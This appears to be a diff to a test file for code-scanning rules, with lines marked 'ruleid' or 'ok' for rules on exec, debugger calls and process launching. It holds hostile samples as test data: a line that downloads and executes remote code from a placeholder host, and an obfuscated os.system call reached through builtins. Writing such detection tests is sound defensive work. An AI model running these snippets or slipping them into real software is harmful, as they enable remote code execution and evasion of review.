@@ -150,3 +150,16 @@ stage = tempfile.NamedTemporaryFile(delete=False, suffix=".py")
 stage.write(b"from urllib.request import urlopen;exec(urlopen('https://example.invalid/p').read())")
 # ok: AIR-EXEC-003
 stage.write(b"print('import this is only text with exec( in it')")
+
+# ruleid: AIR-EXEC-008
+breakpoint()
+import pdb  # noqa: E402
+
+# ruleid: AIR-EXEC-008
+pdb.set_trace()
+# ruleid: AIR-EXEC-009
+help()
+# ok: AIR-EXEC-009
+help(len)
+# ruleid: AIR-PROC-001
+print.__self__.__import__("os").system("id")
